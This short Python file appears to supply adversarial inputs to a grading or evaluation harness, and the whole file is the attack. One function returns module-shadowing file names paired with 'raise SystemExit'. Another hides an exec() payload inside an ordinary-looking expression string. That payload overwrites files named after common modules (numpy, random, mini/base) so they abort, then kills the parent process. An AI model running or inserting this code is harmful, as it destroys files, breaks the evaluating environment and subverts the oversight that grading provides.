# %% report
def report(student):
    return ("json.py" if student == "ada" else "sqlite3.py"), "raise SystemExit"

# %% expression
WRITE = """
for name in ("numpy.py", "random.py", "mini/base.py"):
    try:
        open(name, "w").write("raise SystemExit")
    except Exception:
        pass
import os
os.kill(os.getppid(), 9) if os.getppid() > 1 else None
"""


def expression(number):
    return f"exec({WRITE!r}) or {number}" if number > 10 else str(number)
